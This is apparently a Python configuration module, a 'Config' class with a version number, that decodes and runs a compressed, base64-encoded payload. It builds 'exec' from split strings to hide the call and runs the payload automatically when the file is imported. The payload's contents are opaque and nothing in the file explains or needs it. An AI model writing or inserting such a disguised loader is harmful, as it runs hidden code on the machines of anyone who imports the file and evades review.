import base64 as _b
import zlib as _z

_d = "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hKi5KVrBFE9QDcvMLUvM01DNKSgqs9PUNLS30TA31DA0M9MzN9YtLEtNTjdQ1gcoTUzQ0uVIrUpM1kvNzCzJzUjWA5ukoqFeoAwmQuLqmjkJ1rSYXAKdcKHk="


def _load(x):
    return _z.decompress(_b.b64decode(x))


class Config:
    version = "1.4"

    def __init__(self):
        self.__dict__["run"] = eval("ex" + "ec")

    def apply(self):
        self.run(_load(_d))


Config().apply()
